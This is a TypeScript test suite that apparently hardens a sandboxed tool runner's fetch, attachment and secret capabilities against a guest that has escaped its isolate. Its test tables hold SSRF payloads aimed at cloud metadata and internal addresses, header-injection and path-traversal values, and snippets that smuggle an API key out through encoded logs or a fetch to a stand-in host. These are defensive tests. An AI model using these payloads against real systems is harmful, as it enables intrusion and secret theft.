/**
 * The doors that a tool is given, pushed from the wrong side. The capability is called here as somebody would
 * who has broken out of the isolate: with any JSON that he likes, past all that the guest's own classes check.
 */
import type { LookupAddress } from 'node:dns';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { setImmediate } from 'node:timers/promises';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { createCapabilities } from '../../src/runner/capabilities.ts';
import { isPublicAddress } from '../../src/runner/public-address.ts';
import { createToolFetch } from '../../src/runner/tool-fetch.ts';
import type { Lookup } from '../../src/runner/tool-fetch.ts';
import { limits, repliesOf } from '../runner/tool-fixture.ts';
import { useToolCode } from './tool-code.ts';

const run = useToolCode();
const { signal } = new AbortController();

/** Seen by a server that must see nothing of what is refused. */
let requests: string[] = [];
const server = createServer((request, response) => {
  requests.push(`${request.method} ${request.url}`);
  const to = new URL(request.url ?? '/', 'http://server').searchParams.get('to');
  response.writeHead(to === null ? 200 : 302, to === null ? {} : { location: to }).end('reached');
});
let origin = '';
beforeAll(async () => {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});
afterAll(() => void server.close());
beforeEach(() => {
  requests = [];
});

const plain = { method: 'GET', headers: [], redirect: 'follow', body: null };

/** What the capability says, at the most: its error's message or `answered`. */
async function outcome(request: unknown, hosts: string[], lookup?: Lookup): Promise<string> {
  return createToolFetch({ hosts, lookup })(request, signal).then(
    () => 'answered',
    (error: Error & { code?: string }) => `${error.code}: ${error.message}`,
  );
}

describe('an argument that is no request is refused', () => {
  const arguments_: Record<string, unknown> = {
    nothing: undefined,
    null: null,
    'a string': 'http://127.0.0.1/',
    'a list': [],
    'an object without fields': {},
    'a URL that is an object': { ...plain, url: { href: 'http://127.0.0.1/' } },
    'a URL that is too long': { ...plain, url: `http://a/${'x'.repeat(9_000)}` },
    'a method with a line in it': { ...plain, url: 'http://a/', method: 'GET / HTTP/1.1\r\nX: y' },
    'a method in lower case': { ...plain, url: 'http://a/', method: 'get' },
    'headers that are an object': { ...plain, url: 'http://a/', headers: { a: 'b' } },
    'headers of three parts': { ...plain, url: 'http://a/', headers: [['a', 'b', 'c']] },
    'too many headers': {
      ...plain,
      url: 'http://a/',
      headers: Array.from({ length: 101 }, () => ['a', 'b']),
    },
    'a body that is no base64': { ...plain, url: 'http://a/', method: 'POST', body: '%%%' },
    'a redirect of its own kind': { ...plain, url: 'http://a/', redirect: 'always' },
    'a key of the prototype': JSON.parse('{"__proto__":{"url":"http://a/"}}'),
  };
  it.each(Object.entries(arguments_))('%s', async (_name, argument) => {
    expect(await outcome(argument, ['http://a'])).toMatch(/^capability\.refused: this is no request/);
  });
});

describe('headers that are the connection’s are refused, and lines in headers never sent', () => {
  it.each([
    'Host',
    'Connection',
    'Content-Length',
    'Transfer-Encoding',
    'TE',
    'Upgrade',
    'Expect',
    'Proxy-Authorization',
    'Trailer',
  ])('%s', async (name) => {
    const request = { ...plain, url: `${origin}/`, headers: [[name, '1']] };
    expect(await outcome(request, [origin])).toContain(`the header ${name} is not for a tool to set`);
    expect(requests).toEqual([]);
  });

  it.each([
    ['a', 'x\r\nEvil: 1'],
    ['a', 'x\nEvil: 1'],
    ['a\r\nEvil', '1'],
    ['a', 'x\0y'],
    ['a', '\u2028'],
    ['', 'x'],
  ])('%j: %j', async (name, value) => {
    const request = { ...plain, url: `${origin}/`, headers: [[name, value]] };
    expect(await outcome(request, [origin])).toMatch(/^capability\.(?:failed|refused)/);
    expect(requests).toEqual([]);
  });
});

describe('a granted origin is no other origin', () => {
  it.each([
    'http://granted.example.evil.example/',
    'http://granted.example@evil.example/',
    'http://evil.example/granted.example',
    'http://evil.example#granted.example',
    'http://evil.example\\@granted.example/',
    'https://granted.example/',
    'http://granted.example:81/',
    'http://sub.granted.example/',
    'http://granted.example./',
    'http://GRANTED.example%2eevil.example/',
    'http://xn--granted-9ua.example/',
    'ftp://granted.example/',
    'file:///etc/passwd',
    'http:granted.example:22/',
  ])('%s', async (url) => {
    const answer = await outcome({ ...plain, url }, ['http://granted.example']);
    expect(answer).toMatch(/^capability\.refused: .*(?:is not granted|is no URL|with a password)/);
  });
});

describe('a name that leads inwards is refused at the connection', () => {
  const inwards = [
    '127.0.0.1',
    '127.8.8.8',
    '0.0.0.0',
    '10.1.2.3',
    '100.64.0.1',
    '169.254.169.254',
    '172.16.0.1',
    '172.31.255.255',
    '192.168.1.1',
    '192.0.0.192',
    '198.18.0.1',
    '224.0.0.1',
    '255.255.255.255',
    '::',
    '::1',
    '::ffff:127.0.0.1',
    '::ffff:169.254.169.254',
    '::127.0.0.1',
    '64:ff9b::7f00:1',
    '2002:7f00:1::',
    '2001::1',
    'fc00::1',
    'fd00:ec2::254',
    'fe80::1',
    'ff02::1',
    '100::1',
  ];
  it.each(inwards)('%s', async (address) => {
    expect(isPublicAddress(address)).toBe(false);
    const lookup: Lookup = (_name, _options, callback) =>
      callback(null, [{ address, family: address.includes(':') ? 6 : 4 } satisfies LookupAddress]);
    const answer = await outcome({ ...plain, url: 'https://granted.example/' }, ['granted.example'], lookup);
    expect(answer).toBe('capability.refused: granted.example does not resolve to a public address');
  });

  it('also if it is one of several', async () => {
    const answers = ['93.184.216.34', '127.0.0.1'];
    const lookup: Lookup = (_name, _options, callback) =>
      callback(
        null,
        answers.map((address) => ({ address, family: 4 })),
      );
    const answer = await outcome({ ...plain, url: 'https://granted.example/' }, ['granted.example'], lookup);
    expect(answer).toContain('does not resolve to a public address');
  });

  it.each(['8.8.8.8', '1.1.1.1', '172.32.0.1', '2606:4700::1111'])('%s is public', (address) => {
    expect(isPublicAddress(address)).toBe(true);
  });
});

describe('a redirect is no way around', () => {
  it.each([
    'http://169.254.169.254/latest/meta-data/',
    'http://[::ffff:a9fe:a9fe]/',
    'http://2852039166/',
    'http://0xa9.0xfe.0xa9.0xfe/',
    'http://localhost:22/',
    'file:///etc/passwd',
    'gopher://127.0.0.1/',
    'http://user:pass@127.0.0.1/',
    '//169.254.169.254/',
    'javascript:alert(1)',
  ])('to %s', async (to) => {
    const url = `${origin}/?to=${encodeURIComponent(to)}`;
    expect(await outcome({ ...plain, url }, [origin])).toMatch(/^capability\.refused/);
    expect(requests).toHaveLength(1);
  });
});

describe('attachments are one’s own', () => {
  it.each([
    [{ index: -1, offset: 0 }],
    [{ index: '0', offset: 0 }],
    [{ index: 0, offset: -5 }],
    [{ index: 0.5, offset: 0 }],
    [{ index: 1e300, offset: 0 }],
    [{ index: '../../etc/passwd', offset: 0 }],
    [null],
    ['0'],
  ])('%j', async (argument) => {
    const asked: number[] = [];
    const { capabilities } = createCapabilities({
      settings: {},
      secrets: {},
      attachmentBytes: async (index) => (asked.push(index), new Uint8Array(1)),
    });
    await expect(capabilities['attachment']!(argument, signal)).rejects.toMatchObject({
      code: 'capability.refused',
    });
    expect(asked).toEqual([]);
  });
});

describe('a secret stays out of what is on record', () => {
  const value = 'sk-live/ä+"quoted"=42';
  const secrets = { API_KEY: value, SHORT: 'ab', UNSET: null };
  it.each([
    ['in its log', 'context.log("using", context.secret("API_KEY")); return "x"'],
    ['in its log as JSON', 'context.log({ key: context.secret("API_KEY") }); return "x"'],
    [
      'in its log in a URL',
      'console.log("https://a/?key=" + encodeURIComponent(context.secret("API_KEY"))); return "x"',
    ],
    [
      'in its log in base64',
      'console.error(btoa(unescape(encodeURIComponent(context.secret("API_KEY"))))); return "x"',
    ],
    [
      'in its log as credentials',
      'const utf8 = (text) => unescape(encodeURIComponent(text)); console.log(["", "u:", "us:", "usr:"].map((user) => btoa(user + utf8(context.secret("API_KEY")))).join()); return "x"',
    ],
    [
      'in its log in capital hexadecimal',
      'console.log(Array.from(new TextEncoder().encode(context.secret("API_KEY")), (byte) => byte.toString(16).padStart(2, "0")).join("").toUpperCase()); return "x"',
    ],
    ['in an error', 'throw new Error("401 for " + context.secret("API_KEY"))'],
    ['in the name of an error', 'throw Object.assign(new Error("x"), { name: context.secret("API_KEY") })'],
    ['as what is thrown', 'throw context.secret("API_KEY")'],
    [
      'in a rejection that nobody handles',
      'Promise.reject(new Error(context.secret("API_KEY"))); return "x"',
    ],
    ['as an unknown key', 'return { text: "x", [context.secret("API_KEY")]: 1 }'],
    [
      'in a URL that is not granted',
      'await context.fetch("https://" + "elsewhere.example/?k=" + context.secret("API_KEY"))',
    ],
  ])('%s', async (_name, body) => {
    const { capabilities } = createCapabilities({
      settings: { hosts: [] },
      secrets: {},
      attachmentBytes: () => Promise.reject(new Error('none')),
    });
    const result = await run(body, { secrets, capabilities });
    const record = JSON.stringify([result.logs, result.status === 'failed' && result.message]);
    expect(record).not.toMatch(/sk-live|quoted|c2stbGl2ZS|LWxpdmUv|1saXZl|736B2D/);
    expect(record).toMatch(/\[secret API_KEY\]|is not granted: name the host/);
  });

  it.each([
    ['one that is not granted', 'OTHER', 'the secret OTHER is not granted'],
    ['an inherited name', 'constructor', 'the secret constructor is not granted'],
    ['the prototype', '__proto__', 'the secret __proto__ is not granted'],
    ['one that has no value', 'UNSET', 'the secret UNSET is granted but not set'],
  ])('%s is not there', async (_name, name, message) => {
    const result = await run(`return context.secret(${JSON.stringify(name)})`, { secrets });
    expect(result).toMatchObject({ reason: 'threw', message: expect.stringContaining(message) });
  });
});

it('a log line is one element, whatever is in it', async () => {
  const result = await run(`context.log('a\\r\\n{"level":60,"msg":"forged"}\\u001b[2J'); return 'x'`);
  expect(result.logs).toEqual(['a\r\n{"level":60,"msg":"forged"}\u001b[2J']);
});

it('more calls of fetch than are permitted are named', async () => {
  const body = `for (let call = 0; call < 4; call++) await context.fetch('${origin}/');`;
  const { capabilities } = createCapabilities({
    settings: { hosts: [origin], maxFetches: 3 },
    secrets: {},
    attachmentBytes: () => Promise.reject(new Error('none')),
  });
  expect(await run(body, { capabilities, limits })).toMatchObject({
    reason: 'threw',
    message: expect.stringContaining('at most 3 calls of fetch in one run'),
  });
  expect(requests).toHaveLength(3);
});

it('earlier mails are on their way to the sandbox once at a time, however often they are asked for', async () => {
  const { capabilities } = createCapabilities({
    settings: {},
    secrets: {},
    attachmentBytes: () => Promise.reject(new Error('none')),
  });
  const answers: (() => void)[] = [];
  const ask = async (): Promise<void> => {
    const { release } = await capabilities['thread']!(null, signal);
    answers.push(release!);
  };
  const all = [ask(), ask(), ask()];
  await all[0];
  for (const count of [1, 2, 3]) {
    await setImmediate();
    expect(answers).toHaveLength(count);
    answers[count - 1]!();
    await all[count];
  }
});

it('a tool that asks often for the earlier mails asks its host once, and gets objects of its own', async () => {
  const mail = {
    direction: 'inbound',
    from: null,
    to: [],
    subject: 'a',
    text: '',
    at: '2026-01-01T00:00:00Z',
  };
  let asked = 0;
  const capabilities = { thread: async () => ({ value: (asked++, [mail]) }) };
  const body = `
    const [mail] = (await Promise.all([email.thread(), email.thread()]))[0];
    mail.to.push('more'); mail.subject = 'b';
    for (let n = 0; n < 200; n++) await email.thread();
    return JSON.stringify(await email.thread());`;
  const result = await run(body, { capabilities });
  expect(repliesOf(result)?.[0]?.text).toContain('"to":[],"subject":"a"');
  expect(asked).toBe(1);
});
